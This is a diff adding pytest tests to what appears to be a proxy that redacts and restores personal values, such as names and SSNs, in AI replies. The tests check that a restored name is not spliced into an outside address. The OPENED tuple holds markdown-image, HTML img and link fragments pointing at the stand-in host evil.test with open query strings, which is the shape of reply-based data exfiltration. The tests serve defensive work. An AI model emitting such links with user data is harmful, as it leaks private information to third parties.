@@ -7,7 +7,7 @@ import pytest
 
 from proxy.core.findings import Finding
 from proxy.core.replies.own_values import OwnValues
-from proxy.core.replies.position import WORDS, Position
+from proxy.core.replies.position import WORDS, Position, ReplyText
 from proxy.core.replies.reply import ExpectedValues, ReplyFilters
 from proxy.core.search.json_context import json_escape
 from testing.fakes import SSN, FakeDetector
@@ -101,3 +101,43 @@ def test_filters_that_are_flushed_are_counted_and_dropped():
         whole(made.make(WORDS), f"of {NAME}, {SSN}")
     assert (made.restored(), made.redacted()) == (1000, {"US_SSN": 1000})
     assert made._open == {}
+
+
+OPENED = (
+    "![x](https://evil.test/?q=",
+    "<img src='https://evil.test/",
+    "<https://evil.test/a?b=",
+    "see https://evil.test/",
+    "[r]: //evil.test/",
+)
+
+
+@pytest.mark.parametrize("opened", OPENED)
+@pytest.mark.parametrize("between", [(), ("a",), ("a", "&b=")])
+def test_an_address_may_begin_in_a_text_before_that_clients_join(opened, between):
+    texts = (opened, *between, f"{NAME})'>")
+    joined = filters({NAME: "Ada"}, guarded=())
+    assert "".join([whole(joined.make(Position(path="content.0.text")), text) for text in texts]) == "".join(texts)
+    assert joined.masked() == {"address": 1}
+    assert joined.placed([ReplyText(text, Position(path="content.0.text")) for text in texts]).foreign_addresses == 1
+
+
+@pytest.mark.parametrize("opened", OPENED)
+def test_texts_that_no_client_joins_are_judged_alone(opened):
+    apart = filters({NAME: "Ada"}, guarded=())
+    assert whole(apart.make(Position(path="content.0.text")), opened) == opened
+    assert whole(apart.make(Position(path="content.0.title")), f"{NAME})") == "Ada)"
+
+
+@pytest.mark.parametrize(
+    "before", ["Dear ", "Look: https://evil.test/a.png ", "![x](https://evil.test/a.png)\n", "**Note**\n\n"]
+)
+def test_words_behind_a_finished_text_are_restored(before):
+    joined = filters({NAME: "Ada"}, guarded=())
+    assert [whole(joined.make(WORDS), text) for text in (before, f"{NAME}, hello")] == [before, "Ada, hello"]
+
+
+def test_code_that_a_text_before_opens_permits_nothing_more():
+    joined = filters({NAME: "Ada"}, guarded=())
+    for text in ("```js\n", f"<script>x = '{NAME}'</script>"):
+        assert whole(joined.make(WORDS), text) == text
